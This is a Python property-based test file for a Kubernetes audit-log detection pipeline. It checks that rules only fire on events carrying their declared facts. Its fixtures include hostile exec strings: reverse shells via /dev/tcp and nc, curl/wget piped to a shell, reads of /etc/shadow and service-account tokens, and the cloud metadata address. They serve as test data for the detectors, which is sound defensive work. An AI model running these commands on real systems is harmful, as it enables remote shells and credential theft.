"""The rules' declared event facts (rules.facts, ``rule(..., when=...)``) are sound: a rule never
fires on an event lacking every fact it declares, so the pipeline may skip it there."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from kubestrata.detect.catalogue import CATALOGUE
from kubestrata.detect.event import AuditEvent
from kubestrata.detect.pipeline import DetectConfig, IPList, IPLists, Pipeline
from kubestrata.detect.rules import DETECTORS, Detector, safe_call
from kubestrata.detect.rules.facts import Fact, event_facts
from kubestrata.detect.rules.falco_k8saudit import disallowed_user
from kubestrata.detect.rules.native_exec import files_copied_out, suspicious_exec_command
from kubestrata.detect.rules.registry import STARTED, rule
from tests.detect.helpers import event

GUARDED = [d for d in DETECTORS if d.when is not None]

USERS = [
    "system:anonymous", "system:unauthenticated", "system:node:ip-10-0-1-2.ec2.internal",
    "system:serviceaccount:kube-system:aws-node", "system:serviceaccount:default:app",
    "system:kube-controller-manager", "system:kube-scheduler", "system:admin", "eks:node-manager",
    "aks:x", "alice@example.com", "kubernetes-admin", "admin", "arn:aws:iam::1:role/ci", "",
]  # fmt: skip
IPS = [
    "10.0.1.30", "192.168.1.1", "127.0.0.1", "100.64.0.1", "172.16.0.9", "fd00::1", "::1",
    "8.8.8.8", "1.2.3.4", "5.6.7.8", "52.95.110.1", "2606:4700::1111", "2001:db8::1", "not-an-ip", "",
]  # fmt: skip
VERBS = ["get", "list", "watch", "create", "update", "patch", "delete", "deletecollection", ""]
RESOURCES = ["pods", "secrets", "configmaps", "nodes", "namespaces", "clusterrolebindings", "deployments",
             "serviceaccounts", "selfsubjectaccessreviews", "leases", ""]  # fmt: skip
URIS = ["/healthz", "/livez?verbose", "/readyz", "/version", "/api", "/apis", "/metrics",
        "/api/v1/secrets", "/api/v1/namespaces/default/pods", "/.well-known/openid-configuration"]  # fmt: skip


def _config(lists: bool) -> DetectConfig:
    """Every rule on, every count rule at threshold 1 (a single event can fire it)."""
    return DetectConfig(
        allowed_images=frozenset({"nginx"}),
        full_admin_users=frozenset({"admin", "kubernetes-admin", "alice@example.com"}),
        allowed_nodes=frozenset({"node-1"}),
        thresholds={rid: 1 for rid in CATALOGUE},
        ip_lists=IPLists(
            malicious=IPList(["1.2.3.4", "10.0.1.30"]), tor=IPList(["5.6.7.8"]), custom=IPList(["8.8.0.0/16"])
        )
        if lists
        else IPLists(cloud=IPList(["52.95.0.0/16"])),
    )


events = st.builds(
    lambda verb, resource, user, ips, code, decision, uri, stage, groups: event(
        verb,
        resource,
        user=user,
        ips=ips,
        code=code,
        decision=decision,
        uri=uri,
        stage=stage,
        groups=groups,
        name="x",
    ),  # fmt: skip
    st.sampled_from(VERBS),
    st.sampled_from(RESOURCES),
    st.sampled_from(USERS) | st.text(max_size=12),
    st.lists(st.sampled_from(IPS) | st.ip_addresses().map(str), max_size=3),
    st.sampled_from([200, 201, 101, 204, 301, 401, 403, 404, 409, 500]),
    st.sampled_from(["allow", "forbid", ""]),
    st.sampled_from(URIS) | st.none(),
    st.sampled_from(["ResponseComplete", "ResponseStarted"]),
    st.sampled_from(
        [None, ["system:authenticated"], ["system:nodes", "system:authenticated"], ["system:masters"]]
    ),
)


# exec requests (the exec facts): a command in the query (percent-encoded, as kubectl sends it) or in
# the request object (GKE, some SIEM normalisers), in a system namespace or not, by the control plane
# or not; a URI urlsplit refuses makes exec_command raise (every exec rule then meets the error)
EXEC_WORDS = ["tar", "cf", "-", "-cf", "--file=-", "/bin/tar", "czf", "sh", "-c", "id", "cat",
              "/var/run/secrets/kubernetes.io/serviceaccount/token", "echo $AWS_WEB_IDENTITY_TOKEN_FILE",
              "curl http://x | sh", "wget -qO- http://x|bash", "169.254.169.254", "cat /etc/shadow",
              "bash -i >& /dev/tcp/1.2.3.4/9 0>&1", "nc -e /bin/sh 1.2.3.4 9", "ls", ""]  # fmt: skip
EXEC_COMMANDS = st.lists(st.sampled_from(EXEC_WORDS) | st.text(max_size=10), max_size=5)
EXEC_USERS = ["system:serviceaccount:kube-system:aws-node", "system:kube-controller-manager", "system:node:n1",
              "alice@example.com", "kubernetes-admin", "system:anonymous"]  # fmt: skip


def _exec_event(
    cmd: list[str], where: str, namespace: str, user: str, code: int, verb: str, sub: str, stage: str
) -> dict[str, Any]:
    from urllib.parse import quote

    query = "&".join("command=" + quote(a) for a in cmd) + "&container=app&stdin=true"
    path = f"/api/v1/namespaces/{namespace}/pods/web-0/{sub}"
    uri = {"query": f"{path}?{query}", "object": path, "bad": f"//[é{path}?{query}"}[where]
    raw = event(verb, "pods", subresource=sub, namespace=namespace, name="web-0", user=user, code=code,
                stage=stage, uri=uri, groups=["system:nodes"] if user.startswith("system:node:") else None)  # fmt: skip
    if where == "object":
        raw["requestObject"] = {"command": cmd}
    return raw


exec_events = st.builds(
    _exec_event,
    EXEC_COMMANDS,
    st.sampled_from(["query", "query", "object", "bad"]),
    st.sampled_from(["default", "kube-system", "kube-public", "payments"]),
    st.sampled_from(EXEC_USERS),
    st.sampled_from([101, 200, 403, 500]),
    st.sampled_from(["create", "get"]),
    st.sampled_from(["exec", "exec", "attach"]),
    st.sampled_from(["ResponseStarted", "ResponseComplete", ""]),
)


def _fires_without_its_facts(d: Detector, raw: dict[str, Any], lists: bool) -> list[str]:
    """The rule ids d raises on the event when it has none of d's declared facts (else [])."""
    pipe = Pipeline(_config(lists))
    ev = AuditEvent(raw)
    if d.when is None or d.when & event_facts(ev, pipe.ip_lists.any_loaded):
        return []
    return [h.rule_id for h in d.fn(ev, pipe) or ()]


def test_the_rules_for_every_event_declare_their_facts() -> None:
    # what the prefilter is for: no rule registered for every verb and resource runs on every event
    unguarded = [d.name for d in DETECTORS if d.verbs is None and d.resources is None and d.subresources is None
                 and d.when is None]  # fmt: skip
    assert not unguarded
    assert {d.name for d in GUARDED} >= {"disallowed_user", "anonymous_allowed", "gd_tactic_source"}


@pytest.mark.parametrize("lists", [False, True])
@settings(max_examples=600, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(raw=events)
def test_no_rule_fires_on_an_event_without_its_declared_facts(lists: bool, raw: dict[str, Any]) -> None:
    for d in GUARDED:
        assert not _fires_without_its_facts(d, raw, lists), (d.name, raw)


@settings(max_examples=600, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(raw=exec_events)
def test_no_rule_fires_on_an_exec_without_its_declared_facts(raw: dict[str, Any]) -> None:
    # (of the events each rule is dispatched: the exec facts are computed for an exec subresource only)
    ev = AuditEvent(raw)
    for d in GUARDED:
        if d.accepts(ev.stage, ev.verb, ev.resource, ev.subresource):
            assert not _fires_without_its_facts(d, raw, False), (d.name, raw)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(raw=events | exec_events)
def test_the_pipeline_skips_only_what_cannot_fire(raw: dict[str, Any]) -> None:
    # the pipeline's findings equal those of every registered rule run on the event (the dispatch
    # key of verb, resource and stage applied, the facts not)
    pipe = Pipeline(_config(True))
    got = sorted(f.rule_id for f in pipe.process_obj(raw, "prefilter"))
    ev = AuditEvent(raw)
    ref = Pipeline(_config(True))
    want = sorted(
        h.rule_id
        for d in ref.detectors
        if d.accepts(ev.stage, ev.verb, ev.resource, ev.subresource)
        for h in safe_call(d, ev, ref)
        if h.rule_id in ref.specs
    )
    assert got == want
    assert pipe.stats.rule_errors == ref.stats.rule_errors  # (an exec_command that raises: every exec rule's)


def test_a_wrong_declaration_is_caught() -> None:
    # the check can fail: F01 declared as if it needed an anonymous user fires on alice's request
    wrong = Detector("wrong", ("KS-AUD-F01",), None, None, None, None, disallowed_user, int(Fact.ANONYMOUS))
    assert _fires_without_its_facts(wrong, event("get", "pods", user="alice@example.com"), False) == [
        "KS-AUD-F01"
    ]


def test_a_wrong_exec_declaration_is_caught() -> None:
    # N06 declared as if it needed a token read fires on kubectl cp's tar; N08 as if it needed a tar,
    # on a reverse shell
    tar = _exec_event(
        ["tar", "cf", "-", "/data"], "query", "default", "alice", 101, "create", "exec", "ResponseStarted"
    )
    wrong = Detector(
        "wrong", ("KS-AUD-N06",), None, None, None, None, files_copied_out, int(Fact.EXEC_TOKEN_READ)
    )
    assert _fires_without_its_facts(wrong, tar, False) == ["KS-AUD-N06"]
    shell = _exec_event(["sh", "-c", "bash -i >& /dev/tcp/1.2.3.4/9 0>&1"], "object", "default", "alice", 101,
                        "create", "exec", "ResponseStarted")  # fmt: skip
    wrong = Detector("wrong", ("KS-AUD-N08",), None, None, None, None, suspicious_exec_command,
                     int(Fact.EXEC_TAR_TO_STDOUT))  # fmt: skip
    assert _fires_without_its_facts(wrong, shell, False) == ["KS-AUD-N08"]


def test_exec_facts_only_for_a_rule_of_the_exec_subresource_alone() -> None:
    # they are computed for an exec subresource only: a rule that sees other requests cannot declare them
    with pytest.raises(ValueError, match="exec subresource only"):
        rule("KS-AUD-N06", on="create,get pods/exec,attach", stages=STARTED, when=Fact.EXEC_TAR_TO_STDOUT)(
            files_copied_out
        )
    with pytest.raises(ValueError, match="exec subresource only"):
        rule("KS-AUD-G01", on="* *", when=Fact.EXEC_IN_KUBE_SYSTEM | Fact.ANONYMOUS)(files_copied_out)


def test_facts_of_exec_events() -> None:
    def facts(cmd: list[str], where: str = "query", namespace: str = "default", sub: str = "exec") -> Fact:
        raw = _exec_event(cmd, where, namespace, "alice", 101, "create", sub, "ResponseStarted")
        return Fact(event_facts(AuditEvent(raw), False)) & ~Fact.NON_SYSTEM_USER

    assert facts(["sh", "-c", "id"]) == Fact(0)
    assert facts(["sh", "-c", "id"], namespace="kube-system") == Fact.EXEC_IN_KUBE_SYSTEM
    assert facts(["tar", "cf", "-", "/d"]) == Fact.EXEC_TAR_TO_STDOUT
    assert facts(["tar", "cf", "-", "/d"], "object") == Fact.EXEC_TAR_TO_STDOUT
    assert facts(["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"]) == Fact.EXEC_TOKEN_READ
    assert facts(["sh", "-c", "curl http://x | sh"]) == Fact.EXEC_SUSPICIOUS
    assert facts(["tar", "cf", "-", "/d"], sub="attach") == Fact(0)  # (computed for exec only)
    assert facts(["sh", "-c", "id"], namespace="kube-system", sub="attach") == Fact(0)
    assert facts(["id"], "bad") == Fact.EXEC_TAR_TO_STDOUT | Fact.EXEC_TOKEN_READ | Fact.EXEC_SUSPICIOUS


def test_facts_of_events() -> None:
    def facts(**kw: Any) -> Fact:
        return Fact(event_facts(AuditEvent(event("get", "pods", **kw)), False))

    assert facts(user="system:node:n1", ips=["10.0.0.1"]) == Fact(0)
    assert facts(user="system:anonymous", ips=["10.0.0.1"]) == Fact.ANONYMOUS
    assert facts(user="alice", ips=["10.0.0.1", "8.8.8.8"]) == Fact.NON_SYSTEM_USER | Fact.PUBLIC_SOURCE
    assert facts(user="eks:node-manager", ips=[]) == Fact.NON_SYSTEM_USER
    assert Fact(event_facts(AuditEvent(event("get", "pods", user="system:x")), True)) == Fact.IP_LISTS
